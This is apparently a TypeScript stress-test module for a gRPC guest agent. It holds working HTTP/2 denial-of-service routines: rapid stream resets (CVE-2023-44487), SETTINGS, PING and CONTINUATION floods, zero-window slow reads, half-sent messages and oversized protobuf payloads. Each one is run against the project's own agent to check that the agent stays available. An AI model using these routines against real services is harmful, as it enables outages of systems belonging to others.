import { setTimeout as delay } from "node:timers/promises";
import { create, toBinary } from "@bufbuild/protobuf";
import { type Client, Metadata, status } from "@grpc/grpc-js";
import { connect } from "../fixtures/exec-stream.ts";
import { EXEC_ENTRIES_LIMIT } from "../../src/agent/domain/index.ts";
import { WriteFileRequestSchema } from "../../src/shared/gen/svc/guest/v1alpha1/files_pb.ts";
import { execStart, readRequest } from "../fixtures/raw-calls.ts";
import { callFields, envelope, FRAME, frame, headerBlock, RawHttp2 } from "../fixtures/raw-http2.ts";
import type { Attack, Target } from "./attack.ts";

const MIB = 2 ** 20;
/** Time for a connection to get a place. */
const PLACE_LIMIT_MS = 30_000;
const FLOOD_LIMIT_MS = 20_000;
const ANSWER_LIMIT_MS = 60_000;
/** A large file, which clients request and do not read. */
const LARGE_FILE = "/proc/kallsyms";

/** The agent accepts a node agent, even while others hold connections. */
async function serves(agent: Target["agent"]): Promise<void> {
  using peer = await connectPatiently(agent);
  const stream = peer.call("Health", agent.token, new Uint8Array());
  if (!(await peer.holds(() => peer.hasClosed(stream), ANSWER_LIMIT_MS)))
    throw new Error("no place was left for a node agent");
}

/** A slot becomes free a moment after its connection has ended. */
async function connectPatiently(agent: Target["agent"]): Promise<RawHttp2> {
  const deadline = performance.now() + PLACE_LIMIT_MS;
  for (;;) {
    try {
      return await RawHttp2.dial(agent);
    } catch (error) {
      if (performance.now() > deadline)
        throw new Error("no place became free for another connection", { cause: error });
      await delay(100);
    }
  }
}

/** Streams that are opened and reset at once (CVE-2023-44487). */
async function resetRapidly({ agent, inputs }: Target): Promise<number> {
  let sent = 0;
  const reason = Buffer.from([0, 0, 0, 8]);
  while (sent < inputs) {
    using peer = await connectPatiently(agent);
    for (let index = 0; index < 200 && !peer.isEnded; index++, sent += 1)
      peer.send(frame(FRAME.reset, 0, peer.call("Health", agent.token), reason));
    await peer.holds(() => peer.isEnded, 20);
  }
  return sent;
}

/** An endless stream of frames that the agent must answer or collect. */
async function flood({ agent, inputs }: Target, burst: (peer: RawHttp2) => Buffer): Promise<number> {
  let sent = 0;
  const began = performance.now();
  while (sent < inputs && performance.now() - began < FLOOD_LIMIT_MS) {
    using peer = await connectPatiently(agent);
    peer.stopReading();
    const one = burst(peer);
    const many = Buffer.concat(Array.from({ length: 200 }, () => one));
    for (let index = 0; index < 20 && !peer.isEnded; index++, sent += 200) {
      peer.send(many);
      if (!peer.hasRoom) await Promise.race([peer.flushed(), delay(100)]);
    }
  }
  return sent;
}

/** Calls whose answers the peer's window blocks: files, and commands that write endlessly. */
async function readNothing({ agent, inputs }: Target): Promise<number> {
  const [file, yes] = [readRequest(LARGE_FILE), execStart({ args: ["yes"] })];
  using peers = new DisposableStack();
  let sent = 0;
  for (let index = 0; index < 32 && sent < inputs; index++) {
    const peer = peers.use(await RawHttp2.dial(agent, { windowBytes: 0 }));
    for (let count = 0; count < 200; count++, sent += 1) peer.call("ReadFile", agent.token, file);
    for (let count = 0; count < 4; count++, sent += 1) peer.call("Exec", agent.token, yes, false);
    await peer.holds(() => peer.answered.size > 0, ANSWER_LIMIT_MS);
  }
  await serves(agent);
  return sent;
}

/** Requests that stop in the middle of a message: with and without the header of a file, each as large as a window. */
async function sendHalf({ agent, inputs, scratch }: Target): Promise<number> {
  const value = { path: `${scratch}/half` };
  const header = toBinary(
    WriteFileRequestSchema,
    create(WriteFileRequestSchema, { message: { case: "header", value } }),
  );
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(4 * MIB, 1);
  using peers = new DisposableStack();
  let sent = 0;
  for (let index = 0; index < 30 && sent < inputs; index++) {
    const peer = peers.use(await RawHttp2.dial(agent));
    for (let count = 0; count < 200 && !peer.isEnded; count++, sent += 1) {
      const stream = peer.call("WriteFile", agent.token);
      if (count % 2 === 0) peer.data(stream, envelope(header), false);
      // A little less than the smallest window, so that the connection lives.
      peer.data(stream, Buffer.concat([prefix, Buffer.alloc(2_000)]), false);
    }
    await peer.holds(() => peer.answered.size > 0, 200);
  }
  await serves(agent);
  return sent;
}

/** A call of one message over an ordinary client, which respects the windows. Resolves with its status's number. */
function callWith(client: Client, method: string, message: Uint8Array, token: string): Promise<status> {
  const metadata = new Metadata();
  metadata.set("svc-instance-token", token);
  const path = `/svc.guest.v1alpha1.GuestAgent/${method}`;
  const asIs = (bytes: Uint8Array): Buffer => Buffer.from(bytes);
  const call = client.makeBidiStreamRequest(path, asIs, asIs, metadata, { deadline: Date.now() + ANSWER_LIMIT_MS });
  call.on("error", () => {});
  call.resume();
  call.write(message);
  call.end();
  return new Promise((resolve) => {
    call.on("status", ({ code }) => resolve(code));
  });
}

/** Very many arguments, variables and fields: each message would take the decoder seconds. */
async function sendCountless({ agent, inputs }: Target): Promise<number> {
  const pairs = [
    [0x0a, 0],
    [0x12, 0],
    [0x1a, 0],
    [0x08, 0],
  ] as const;
  const methods = ["Exec", "ReadFile", "WriteFile", "StatPath", "RunHook", "Health"] as const;
  const count = Math.min(inputs, 96);
  const client = connect(agent);
  for (let index = 0; index < count; index++) {
    const method = methods[index % methods.length] ?? "Health";
    const fields = Buffer.alloc(4 * MIB - 16, Uint8Array.from(pairs[(index >>> 1) % pairs.length] ?? pairs[0]));
    // { start: … } of 4 MiB - 16 bytes
    const message = method === "Exec" ? Buffer.concat([Buffer.of(0x0a, 0xf0, 0xff, 0xff, 0x01), fields]) : fields;
    const code = await callWith(client, method, message, agent.token);
    if (code !== status.INVALID_ARGUMENT && code !== status.RESOURCE_EXHAUSTED)
      throw new Error(`${method} with countless fields ended with status ${code}`);
  }
  client.close();
  return count;
}

/** The largest allowed number of arguments, many times at once: other calls must not starve. */
async function sendLargest({ agent, inputs }: Target): Promise<number> {
  const count = Math.max(8, Math.min(inputs, 256));
  const args = ["true", ...Array<string>(EXEC_ENTRIES_LIMIT - 1).fill("")];
  const message = execStart({ args });
  const client = connect(agent);
  for (let sent = 0; sent < count; sent += 8) {
    const calls = Array.from({ length: 8 }, () => callWith(client, "Exec", message, agent.token));
    const code = (await Promise.all(calls)).find((ended) => ended !== status.OK);
    if (code !== undefined) throw new Error(`the largest legal Exec ended with status ${code}`);
  }
  client.close();
  return count;
}

const settings = frame(FRAME.settings, 0, 0);
const ping = frame(FRAME.ping, 0, 0, Buffer.alloc(8));
const continuation = (): Buffer => frame(FRAME.continuation, 0, 1, headerBlock([["x-more", "y".repeat(100)]]));

export const connectionAttacks: readonly Attack[] = [
  { name: "rapid resets", weight: 10, run: resetRapidly },
  { name: "SETTINGS flood", weight: 20, run: (target) => flood(target, () => settings) },
  { name: "PING flood", weight: 20, run: (target) => flood(target, () => ping) },
  {
    name: "CONTINUATION flood",
    weight: 10,
    run: (target) =>
      flood(target, (peer) => {
        peer.send(frame(FRAME.headers, 0, 1, headerBlock(callFields("Health", target.agent.token))));
        return continuation();
      }),
  },
  { name: "windows of 0, nothing read", weight: 4, run: readNothing },
  { name: "messages that are never whole", weight: 4, run: sendHalf },
  { name: "countless fields in 4 MiB", weight: 1, run: sendCountless },
  { name: "131,072 arguments, legal", weight: 1, run: sendLargest },
];
